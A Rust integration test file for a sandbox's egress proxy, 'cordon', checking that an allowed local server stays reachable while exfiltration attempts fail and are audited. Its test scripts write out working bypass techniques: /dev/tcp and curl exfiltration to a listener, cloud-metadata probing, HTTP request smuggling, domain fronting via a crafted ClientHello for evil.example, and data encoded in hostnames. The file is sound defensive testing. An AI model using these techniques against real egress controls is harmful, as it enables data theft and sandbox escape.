//! Egress from inside `cordon exec`, and `cordon proxy` on its own, against real servers on
//! 127.0.0.1: an allowed one and an exfiltration listener. Judged by what the servers
//! receive and what the audit log holds.

use std::io::{BufRead, BufReader};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use super::common::{
    default_policy_with, exec_script, read_or_empty, sandbox_ready, stderr, Home, KillOnDrop,
    Listener,
};

fn inside(home: &Home, flags: &[&str], script: &str) -> Output {
    exec_script(home, flags, "bash", script).output().unwrap()
}

fn out_file(home: &Home) -> String {
    read_or_empty(home.workspace().join("out.txt"))
}

pub(super) fn audit_net(home: &Home) -> Vec<serde_json::Value> {
    let out = home
        .cordon(&["audit", "query", "--capability", "net", "--json"])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn allowed_host_is_reached_through_the_proxy_and_every_bypass_fails() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let allowed = Listener::start();
    let exfil = Listener::start();
    let (a, e) = (allowed.port, exfil.port);

    // Without the sandbox, the exfiltration listener is reachable.
    let bare = Command::new("curl")
        .args(["-s", "-m", "5", &format!("http://127.0.0.1:{e}/stolen")])
        .output()
        .unwrap();
    assert!(bare.status.success());
    assert!(exfil.received() > 0);
    exfil.received.store(0, Ordering::SeqCst);

    let grant = format!("127.0.0.1:{a}");
    let script = format!(
        "curl -s -m 5 -o /dev/null -w 'allowed=%{{http_code}}\\n' http://127.0.0.1:{a}/ok >> out.txt; \
         curl -s -m 5 -o /dev/null -w 'proxied=%{{http_code}}\\n' http://127.0.0.1:{e}/stolen >> out.txt; \
         curl -s -m 5 -o /dev/null -w 'socks=%{{http_code}}\\n' -x socks5h://127.0.0.1:3128 http://127.0.0.1:{e}/stolen >> out.txt; \
         curl -s -m 5 -o /dev/null -w 'direct=%{{http_code}}\\n' --noproxy '*' http://127.0.0.1:{e}/stolen >> out.txt; \
         (echo stolen > /dev/tcp/127.0.0.1/{e}) 2>/dev/null; echo \"tcp=$?\" >> out.txt; \
         curl -s -m 5 -o /dev/null -w 'spelled=%{{http_code}}\\n' http://2130706433:{e}/stolen >> out.txt; \
         curl -s -m 5 -o /dev/null -w 'metadata=%{{http_code}}\\n' http://169.254.169.254/latest/meta-data/ >> out.txt"
    );
    let out = inside(&home, &["--allow-net", &grant], &script);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = out_file(&home);
    for line in [
        "allowed=200",
        "proxied=403",
        "direct=000",
        "tcp=1",
        "spelled=403",
        "metadata=403",
    ] {
        assert!(text.contains(line), "{line} missing in {text}");
    }
    assert!(
        text.contains("socks=000") || text.contains("socks=403"),
        "{text}"
    );
    assert!(allowed.received() > 0);
    assert_eq!(exfil.received(), 0, "the exfiltration listener got data");

    let records = audit_net(&home);
    let allowed_ok = records
        .iter()
        .any(|r| r["allow"] == true && r["resource"]["port"] == a);
    let exfil_denied = records
        .iter()
        .filter(|r| r["allow"] == false && r["resource"]["port"] == e)
        .count();
    assert!(allowed_ok, "no allowed decision recorded");
    // The proxied and the spelled-IP requests are the same request once the host is
    // normalised, refused within the same second: one record (repeats are coalesced); the
    // SOCKS one is another.
    assert!(exfil_denied >= 2, "denials recorded: {exfil_denied}");
}

#[test]
fn a_name_resolving_to_loopback_is_refused_even_when_named() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let allowed = Listener::start();
    let a = allowed.port;
    let grant = format!("localhost:{a}");
    let script = format!(
        "curl -s -m 5 -x http://127.0.0.1:3128 --noproxy '' http://localhost:{a}/ > out.txt"
    );
    inside(&home, &["--allow-net", &grant], &script);
    let text = out_file(&home);
    assert!(
        text.contains("resolves to 127.0.0.1, a loopback address"),
        "{text}"
    );
    assert_eq!(allowed.received(), 0);
}

#[test]
fn a_bulk_upload_is_cut_at_the_budget() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let allowed = Listener::start();
    let a = allowed.port;
    // A policy with a 100 kB upload budget per host.
    let policy = default_policy_with(&home, |settings| {
        settings["net"]["upload_budget_bytes"] = 100_000.into();
    });
    fs_err::write(home.workspace().join("bulk.bin"), vec![b'x'; 1_000_000]).unwrap();

    let bare = Command::new("curl")
        .args(["-s", "-m", "10", "--data-binary", "@bulk.bin"])
        .arg(format!("http://127.0.0.1:{a}/upload"))
        .current_dir(home.workspace())
        .output()
        .unwrap();
    assert!(bare.status.success());
    assert!(allowed.received() >= 1_000_000);
    allowed.received.store(0, Ordering::SeqCst);

    let grant = format!("127.0.0.1:{a}");
    let out = inside(
        &home,
        &["--policy", &policy, "--allow-net", &grant],
        &format!("curl -s -m 10 --data-binary @bulk.bin http://127.0.0.1:{a}/upload > out.txt"),
    );
    assert!(allowed.received() <= 100_000, "{}", stderr(&out));
    assert!(
        out_file(&home).contains("upload budget of 100000 bytes"),
        "{}",
        out_file(&home)
    );
    let cut = audit_net(&home).into_iter().any(|r| {
        r["input"]["result"]["cut"]
            .as_str()
            .is_some_and(|c| c.contains("upload budget"))
    });
    assert!(cut, "the cut is not in the audit log");
}

/// `cordon proxy --listen 127.0.0.1:0 --allow-net GRANT`, and the address it listens on.
fn standalone_proxy(home: &Home, grant: &str) -> (KillOnDrop, String) {
    standalone_proxy_with(home, &["--allow-net", grant])
}

/// `cordon proxy --listen 127.0.0.1:0 ARGS`, and the address it listens on.
pub(super) fn standalone_proxy_with(home: &Home, args: &[&str]) -> (KillOnDrop, String) {
    let mut command = vec!["proxy", "--listen", "127.0.0.1:0"];
    command.extend_from_slice(args);
    let mut proxy = KillOnDrop(
        home.cordon(&command)
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut lines = BufReader::new(proxy.0.stderr.take().unwrap()).lines();
    let deadline = Instant::now() + Duration::from_secs(10);
    let address = loop {
        assert!(Instant::now() < deadline, "the proxy did not start");
        let line = lines.next().unwrap().unwrap();
        if let Some(rest) = line.strip_prefix("cordon proxy: listening on ") {
            break rest.split_whitespace().next().unwrap().to_owned();
        }
    };
    (proxy, address)
}

#[test]
fn the_standalone_proxy_serves_other_clients() {
    let home = Home::new();
    let allowed = Listener::start();
    let exfil = Listener::start();
    let grant = format!("127.0.0.1:{}", allowed.port);
    let (_proxy, address) = standalone_proxy(&home, &grant);
    let curl = |port: u16| http_status_through(&address, &format!("http://127.0.0.1:{port}/"));
    assert_eq!(curl(allowed.port), "200");
    assert_eq!(curl(exfil.port), "403");
    assert_eq!(exfil.received(), 0);
}

#[test]
fn smuggling_fronting_and_names_as_data_fail_from_inside() {
    if !sandbox_ready() {
        return;
    }
    let home = Home::new();
    let allowed = Listener::start();
    let exfil = Listener::start();
    let (a, e) = (allowed.port, exfil.port);
    let grant = format!("127.0.0.1:{a}");
    // Raw requests to the proxy, from a program that does not play by the proxy variables.
    let script = format!(
        r#"/usr/bin/python3 - <<'PY' > out.txt
import socket
def talk(data, read=True):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(data)
    out = b""
    try:
        while read:
            chunk = s.recv(65536)
            if not chunk: break
            out += chunk
    except OSError:
        pass
    s.close()
    return out.decode("latin-1")
# A second, unallowed target pipelined behind an allowed one.
r = talk(b"GET http://127.0.0.1:{a}/ HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\n\r\nGET http://127.0.0.1:{e}/ HTTP/1.1\r\nHost: 127.0.0.1:{e}\r\n\r\n")
print("pipelined", r.count(" 200 OK"), r.count(" 403 "))
# Content-Length and Transfer-Encoding together.
print("ambiguous", talk(b"POST http://127.0.0.1:{a}/ HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n").split("\r\n")[0])
# A CONNECT to the allowed address carrying a ClientHello for another host.
name = b"evil.example"
sni = b"\x00" + len(name).to_bytes(2, "big") + name
sni = len(sni).to_bytes(2, "big") + sni
ext = b"\x00\x00" + len(sni).to_bytes(2, "big") + sni
body = b"\x03\x03" + b"\x07" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + len(ext).to_bytes(2, "big") + ext
hs = b"\x01" + len(body).to_bytes(3, "big") + body
hello = b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
s.sendall(b"CONNECT 127.0.0.1:{a} HTTP/1.1\r\n\r\n")
print("connect", s.recv(100).decode().split("\r\n")[0])
s.sendall(hello)
try:
    print("fronting", repr(s.recv(100)))
except OSError as err:
    print("fronting", err)
# A name made of encoded data.
print("exfil", talk(b"GET http://mzxw6ytboi4dcnrqgazdgnbvgy3tqojqgezdgnbvgy3tqojqmzxw6y.evil.example/ HTTP/1.1\r\n\r\n").split("\r\n")[-1].strip())
PY"#
    );
    let out = inside(&home, &["--allow-net", &grant], &script);
    let text = out_file(&home);
    assert!(text.contains("pipelined 1 1"), "{text}\n{}", stderr(&out));
    assert!(
        text.contains("ambiguous HTTP/1.1 400 Bad Request"),
        "{text}"
    );
    assert!(
        text.contains("connect HTTP/1.1 200 Connection Established"),
        "{text}"
    );
    assert!(text.contains("fronting b''"), "{text}");
    assert!(
        text.contains("looks like data encoded in a host name"),
        "{text}"
    );
    assert_eq!(exfil.received(), 0);
    // The allowed server got the first GET but not the ClientHello.
    assert!(allowed.received() < 200, "{}", allowed.received());

    let records = audit_net(&home);
    let fronting = records.iter().any(|r| {
        r["input"]["result"]["cut"]
            .as_str()
            .is_some_and(|c| c.contains("domain fronting"))
    });
    let exfil_name = records.iter().any(|r| {
        r["action"] == "resolve"
            && r["allow"] == false
            && r["reasons"].to_string().contains("encoded in a host name")
    });
    assert!(fronting, "the fronting cut is not in the audit log");
    assert!(exfil_name, "the refused name is not in the audit log");
}

/// A flood of denied requests writes a bounded number of audit records (each one a durable
/// write), and allowed work goes on meanwhile, each allowance recorded.
#[test]
fn a_flood_of_denials_is_coalesced_and_allowed_work_goes_on() {
    let home = Home::new();
    let allowed = Listener::start();
    let exfil = Listener::start();
    let grant = format!("127.0.0.1:{}", allowed.port);
    let (proxy, address) = standalone_proxy(&home, &grant);
    let (host, port) = address.rsplit_once(':').unwrap();
    let flood = format!(
        "import socket\nfor i in range(1500):\n    s=socket.create_connection(('{host}',{port}),timeout=5)\n    s.sendall(b'CONNECT 127.0.0.1:{} HTTP/1.1\\r\\n\\r\\n')\n    s.recv(64); s.close()",
        exfil.port
    );
    let out = Command::new("python3")
        .args(["-c", &flood])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        http_status_through(&address, &format!("http://127.0.0.1:{}/", allowed.port)),
        "200"
    );
    drop(proxy);
    assert_eq!(exfil.received(), 0);
    let records = home
        .cordon(&["audit", "query", "--capability", "net", "--json"])
        .output()
        .unwrap();
    let records: Vec<serde_json::Value> = String::from_utf8_lossy(&records.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let denials = records.iter().filter(|r| r["allow"] == false).count();
    assert!(
        (1..=20).contains(&denials),
        "{denials} denial records for 1500 denied requests"
    );
    assert!(records.iter().any(|r| r["allow"] == true));
    assert!(
        records
            .iter()
            .any(|r| r["input"]["coalesced"].as_u64().unwrap_or(0) > 0)
            || denials == 1
    );
}

/// The HTTP status of a GET of `url` through the proxy at `address`, as curl prints it (`000`
/// when no answer came).
fn http_status_through(address: &str, url: &str) -> String {
    let out = Command::new("curl")
        .args([
            "-s",
            "-m",
            "5",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "-x",
        ])
        .arg(format!("http://{address}"))
        .arg(url)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}
